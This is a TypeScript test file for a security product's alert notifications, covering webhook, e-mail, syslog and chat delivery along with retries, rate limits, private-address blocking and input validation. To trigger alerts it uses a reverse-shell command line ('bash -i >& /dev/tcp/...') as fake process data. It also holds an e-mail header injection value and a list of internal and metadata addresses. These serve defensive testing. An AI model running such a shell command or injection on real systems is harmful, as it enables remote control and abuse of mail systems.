/** Alerts of a real server through every kind of channel to real receivers on loopback. */
import assert from 'node:assert/strict'
import { createHmac } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { createServer, type IncomingMessage } from 'node:http'
import { createServer as createSecureServer } from 'node:https'
import { type AddressInfo, createServer as createTcpServer, type Server, type Socket } from 'node:net'
import { after, before, test } from 'node:test'
import { createServer as createTlsServer } from 'node:tls'
import { type ChannelBody, channelBody } from '@rampart/api'
import { SMTPServer } from 'smtp-server'
import { until } from '../../../../test/until.ts'
import { Authority, type KeyPair } from '../ingest/authority.ts'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer, temporaryDirectory } from '../testing/test-server.ts'
import { isPublic } from './reach.ts'

let shared: TestServer
let admin: TestConsole
let agent: TestAgent
let pair: KeyPair
let authority = ''
let batch = 0
const password = 'correct horse battery'
const closing: { close(done?: () => void): unknown }[] = []

before(async () => {
  const made = await Authority.open(temporaryDirectory(), Date.now())
  assert.ok(made.ok)
  authority = made.value.certificate
  pair = await made.value.serverCertificate(['localhost', '127.0.0.1'], Date.now())
  shared = await startTestServer()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' }, password)
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
})
after(async () => {
  agent.cut()
  for (const server of closing) server.close()
  await shared.end()
})

async function raise(...commands: string[]): Promise<void> {
  batch++
  await agent.deliver(
    batch,
    commands.map((command, index) => agent.started(batch * 100 + index, `bash -i >& /dev/tcp/${command}`)),
  )
}

async function add(body: Record<string, unknown>): Promise<string> {
  const created = await admin.call('createNotificationChannel', {
    body: { name: 'test', levels: ['Urgent'], allowPrivate: true, ...body },
  })
  assert.equal(created.status, 200, JSON.stringify(created.body))
  return created.body.id
}

async function listening(server: Server, host = '127.0.0.1'): Promise<number> {
  closing.push(server)
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  return (server.address() as AddressInfo).port
}

interface Posted {
  url: string
  headers: IncomingMessage['headers']
  body: string
}

/** A receiver of webhooks; `answer` decides the status and body of each request. */
async function receiver(answer: (count: number) => [number, string] = () => [200, '{}'], secure = false) {
  const posted: Posted[] = []
  const take = (request: IncomingMessage, response: import('node:http').ServerResponse) => {
    let body = ''
    request.on('data', (chunk) => {
      body += chunk
    })
    request.on('end', () => {
      posted.push({ url: request.url ?? '', headers: request.headers, body })
      const [status, text] = answer(posted.length)
      response.writeHead(status, { location: 'http://192.0.2.1/' }).end(text)
    })
  }
  const server = secure ? createSecureServer({ cert: pair.certificate, key: pair.key }, take) : createServer(take)
  const port = await listening(server)
  return { posted, url: `${secure ? 'https://localhost' : 'http://127.0.0.1'}:${port}/hook` }
}

test('an alert reaches a signed webhook once; the address of the alert leads into the console', async () => {
  const { posted, url } = await receiver()
  const id = await add({ target: { kind: 'webhook' }, secrets: { url, secret: 'whsec_c2VjcmV0' } })
  await raise('webhook')
  const [first] = await until('a webhook', () => posted.length > 0 && posted)
  assert.ok(first)
  const { data, type } = JSON.parse(first.body)
  assert.equal(type, 'rampart.alert')
  assert.equal(data.alerts[0].title, 'Shell over a socket')
  assert.equal(data.alerts[0].url, `${shared.server.consoleUrl}/alerts/${data.alerts[0].id}`)
  const signed = `${first.headers['webhook-id']}.${first.headers['webhook-timestamp']}.${first.body}`
  const expected = createHmac('sha256', 'secret').update(signed).digest('base64')
  assert.equal(first.headers['webhook-signature'], `v1,${expected}`)
  await raise('webhook')
  await shared.restart()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.signIn('admin', password)
  const server = `${shared.server.agentUrl.replace('https:', 'wss:')}/agent`
  agent = new TestAgent({ ...agent.enrolment, server })
  await agent.connect()
  assert.equal(posted.length, 1, 'neither a repeat nor a restart tells it again')
  const list = await admin.call('listNotificationChannels')
  assert.equal(list.body.items[0].lastSentAt !== null, true)
  assert.equal(JSON.stringify(list.body).includes(url), false, 'secrets are never given back')
  assert.deepEqual(list.body.items[0].secretsSet, ['url', 'secret'])
  await admin.call('removeNotificationChannel', { id })
})

test('e-mail: STARTTLS with a password, and a relay without encryption', async () => {
  const mails: { text: string; user: string; secure: boolean }[] = []
  const server = new SMTPServer({
    key: pair.key,
    cert: pair.certificate,
    authOptional: true,
    onAuth: (auth, _session, done) =>
      auth.username === 'ops' && auth.password === 'p' ? done(null, { user: 'ops' }) : done(new Error('no')),
    onData: (stream, session, done) => {
      let text = ''
      stream.on('data', (chunk) => {
        text += chunk
      })
      stream.on('end', () => {
        mails.push({ text, user: String(session.user ?? ''), secure: session.secure })
        done()
      })
    },
  })
  const port = await listening(server.server as unknown as Server)
  const target = {
    kind: 'email',
    host: 'localhost',
    port,
    from: 'rampart@example.com',
    to: ['ops@example.com'],
    authority,
  }
  const id = await add({ target: { ...target, username: 'ops' }, secrets: { password: 'p' } })
  await raise('mail')
  const [mail] = await until('an e-mail', () => mails.length > 0 && mails)
  assert.ok(mail?.secure && mail.user === 'ops')
  assert.match(mail.text, /^Subject: Urgent: Shell over a socket on web-1/m)
  assert.match(mail.text, /Stage: Remote Control/)
  const wrong = await admin.call('changeNotificationChannel', {
    id,
    body: { name: 'mail', allowPrivate: true, target: { ...target, username: 'ops' }, secrets: { password: 'wrong' } },
  })
  assert.equal(wrong.status, 200)
  const tested = await admin.call('testNotificationChannel', { id })
  assert.deepEqual([tested.body.ok, tested.body.code], [false, 'notify.mail-refused'])
  const banners = await admin.call('listBanners')
  assert.ok(banners.body.items.some((banner: { subject: string }) => banner.subject === 'notifications'))
  await admin.call('changeNotificationChannel', {
    id,
    body: { name: 'mail', allowPrivate: true, target: { ...target, security: 'none', username: '' } },
  })
  assert.equal((await admin.call('testNotificationChannel', { id })).body.ok, true)
  assert.equal(mails.at(-1)?.secure, false)
  await admin.call('removeNotificationChannel', { id })
})

test('syslog over UDP, TCP and TLS, as RFC 5424 and as CEF', async () => {
  let text = ''
  const take = (socket: Socket) =>
    socket
      .on('data', (chunk) => {
        text += chunk
      })
      .on('error', () => {})
  const tcp = await listening(createTcpServer(take))
  const tls = await listening(createTlsServer({ cert: pair.certificate, key: pair.key }, take))
  const udp = createSocket('udp4').on('message', (message) => {
    text += message
  })
  closing.push(udp)
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))
  const ids = [
    await add({ target: { kind: 'syslog', host: 'localhost', port: tls, transport: 'tls', authority } }),
    await add({ target: { kind: 'syslog', host: '127.0.0.1', port: tcp, transport: 'tcp', format: 'cef' } }),
    await add({
      target: { kind: 'syslog', host: '127.0.0.1', port: udp.address().port, transport: 'udp', facility: 1 },
    }),
  ]
  await raise('syslog')
  const framed = /\d+ <106>1 \S+ \S+ rampart \d+ alert \[alert@32473 /
  await until('three messages', () => framed.test(text) && text.includes('CEF:0|') && text.includes('<10>1'))
  // A certificate of somebody else is not believed.
  const strange = await add({ target: { kind: 'syslog', host: 'localhost', port: tls, transport: 'tls' } })
  assert.equal((await admin.call('testNotificationChannel', { id: strange })).body.code, 'notify.unreachable')
  for (const id of [...ids, strange]) await admin.call('removeNotificationChannel', { id })
})

test('Slack, DingTalk and Feishu over HTTPS; a refusal inside of a 200 is one', async () => {
  const { posted, url } = await receiver((count) => [
    200,
    count === 4 ? '{"errcode":310000,"errmsg":"sign not match"}' : count === 5 ? '<html>' : '{"errcode":0,"code":0}',
  ])
  const ids: string[] = []
  for (const kind of ['slack', 'dingtalk', 'feishu'])
    ids.push(await add({ target: { kind }, secrets: { url, secret: 'SEC' } }))
  await raise('chat')
  await until('three messages', () => posted.length === 3)
  const bodies = posted.map(({ body }) => JSON.parse(body))
  assert.ok(bodies.some((body) => body.attachments?.[0].blocks[0].type === 'header'))
  assert.ok(bodies.some((body) => body.msgtype === 'markdown'))
  assert.ok(bodies.some((body) => body.msg_type === 'interactive' && body.sign))
  assert.ok(posted.some((one) => one.url.includes('sign=')))
  const refused = await admin.call('testNotificationChannel', { id: ids[1] ?? '' })
  assert.deepEqual([refused.body.ok, refused.body.code], [false, 'notify.refused'])
  const portal = await admin.call('testNotificationChannel', { id: ids[2] ?? '' })
  assert.deepEqual([portal.body.ok, portal.body.code], [false, 'notify.refused'], 'what answers is not the service')
  for (const id of ids) await admin.call('removeNotificationChannel', { id })
  const secure = await receiver(undefined, true)
  const id = await add({ target: { kind: 'webhook', authority }, secrets: { url: secure.url } })
  assert.equal((await admin.call('testNotificationChannel', { id })).body.ok, true)
  await admin.call('removeNotificationChannel', { id })
})

test('beyond the limit one digest; what fails is tried again; what does not fit is not told', async () => {
  const { posted, url } = await receiver((count) => [count === 1 ? 503 : 200, ''])
  const limit = { messages: 2, minutes: 60 }
  const id = await add({ target: { kind: 'webhook' }, secrets: { url }, limit })
  const quiet = await add({ target: { kind: 'webhook' }, secrets: { url: `${url}?quiet` }, types: ['Other'] })
  await raise('limit-1', 'limit-2', 'limit-3', 'limit-4')
  await until('a failed try', () => posted.length === 1)
  const failing = await until('a failure', () => true).then(() => admin.call('listNotificationChannels'))
  const shown = failing.body.items.find((one: { id: string }) => one.id === id)
  assert.equal(shown.failure.code, 'notify.refused')
  assert.equal(shown.waiting, 4)
  // A change of the channel tries again at once.
  await admin.call('changeNotificationChannel', {
    id,
    body: { name: 'again', allowPrivate: true, target: { kind: 'webhook' }, limit },
  })
  await until('one alert and one digest', () => posted.length === 3)
  const types = posted.map(({ body }) => JSON.parse(body).type)
  assert.deepEqual(types, ['rampart.alert', 'rampart.alert', 'rampart.digest'])
  const digest = JSON.parse(posted[2]?.body ?? '{}')
  assert.equal(digest.data.total, 3)
  assert.equal(posted[0]?.headers['webhook-id'], posted[1]?.headers['webhook-id'], 'every try has the same id')
  await raise('limit-5')
  await new Promise((resolve) => setTimeout(resolve, 400))
  assert.equal(posted.length, 3, 'the window is used up')
  const deliveries = await admin.call('listNotificationDeliveries', { id })
  assert.deepEqual(
    deliveries.body.items.map((one: { kind: string; ok: boolean; alerts: number }) => [one.kind, one.ok, one.alerts]),
    [
      ['digest', true, 3],
      ['alert', true, 1],
      ['alert', false, 1],
    ],
  )
  for (const one of [id, quiet]) await admin.call('removeNotificationChannel', { id: one })
})

test('private addresses are refused unless allowed, by name too; redirects are not followed', async () => {
  const { posted, url } = await receiver(() => [302, ''])
  for (const given of [url, url.replace('127.0.0.1', 'localhost'), url.replace('127.0.0.1', '[::ffff:127.0.0.1]')]) {
    const id = await add({ target: { kind: 'webhook' }, secrets: { url: given }, allowPrivate: false })
    const tested = await admin.call('testNotificationChannel', { id })
    assert.equal(tested.body.code, 'notify.private-address', given)
    await admin.call('removeNotificationChannel', { id })
  }
  assert.equal(posted.length, 0)
  const id = await add({ target: { kind: 'webhook' }, secrets: { url } })
  assert.equal((await admin.call('testNotificationChannel', { id })).body.code, 'notify.refused')
  assert.equal(posted.length, 1)
  await admin.call('removeNotificationChannel', { id })
  const refused = [
    '10.0.0.1',
    '169.254.169.254',
    '100.64.0.1',
    '0.0.0.0',
    '::1',
    'fe80::1',
    'fd00::1',
    '::ffff:10.0.0.1',
    '192.0.2.1',
    '255.255.255.255',
    '198.18.0.1',
    // IPv4 inside of IPv6: compatible, translated, NAT64 of both prefixes, 6to4, Teredo.
    '::10.0.0.1',
    '::ffff:0:10.0.0.1',
    '64:ff9b::a00:1',
    '64:ff9b:1::a00:1',
    '2002:a00:1::',
    '2001:0:a00:1::',
    'fec0::1',
    '3fff::1',
  ]
  assert.deepEqual(refused.filter(isPublic), [])
})

test('what does not get through is tried again after a restart, not sooner than it was said', async () => {
  const { posted, url } = await receiver((count) => [count === 1 ? 503 : 200, ''])
  const id = await add({ target: { kind: 'webhook' }, secrets: { url } })
  await raise('restart')
  await until('a failed try', () => posted.length === 1)
  const shown = async () => {
    const { items } = (await admin.call('listNotificationChannels')).body
    return items.find((one: { id: string }) => one.id === id)
  }
  const before = await until('the failure', async () => (await shown()).failure)
  assert.equal(before.tries, 1)
  await shared.restart()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.signIn('admin', password)
  assert.deepEqual([(await shown()).failure, (await shown()).waiting], [before, 1], 'nothing of it is forgotten')
  await until('the second try', () => posted.length === 2, 40_000)
  assert.ok(Date.now() >= Date.parse(before.nextAt))
  const [first, second] = posted
  assert.equal(first?.headers['webhook-id'], second?.headers['webhook-id'])
  const after = await until('the success', async () => (await shown()).lastSentAt && (await shown()))
  assert.deepEqual([after.failure, after.waiting], [null, 0])
  const server = `${shared.server.agentUrl.replace('https:', 'wss:')}/agent`
  agent = new TestAgent({ ...agent.enrolment, server })
  await agent.connect()
  await admin.call('removeNotificationChannel', { id })
})

test('bad settings are refused with their place', async () => {
  const base = { name: 'x', target: { kind: 'webhook' } }
  const codes = await Promise.all(
    [
      { ...base, secrets: {} },
      { ...base, secrets: { url: 'ftp://example.com/' } },
      {
        ...base,
        secrets: { url: 'https://example.com/' },
        quiet: { from: '22:00', to: '07:00', zone: 'Europe/Atlantis' },
      },
      {
        name: 'x',
        target: {
          kind: 'email',
          host: 'mail.example.com',
          from: 'a@example.com\r\nBcc: b@example.com',
          to: ['c@example.com'],
        },
      },
      {
        name: 'x',
        target: {
          kind: 'email',
          host: 'mail.example.com',
          username: 'u',
          from: 'a@example.com',
          to: ['c@example.com'],
        },
      },
    ].map(async (body) => (await admin.call('createNotificationChannel', { body })).body.path),
  )
  assert.deepEqual(codes, [
    'body.secrets.url',
    'body.secrets.url',
    'body.quiet.zone',
    'body.target.from',
    'body.secrets.password',
  ])
  const defaults: ChannelBody = channelBody.parse({ ...base, secrets: { url: 'https://example.com/' } })
  assert.deepEqual(defaults.levels, ['Urgent'])
})
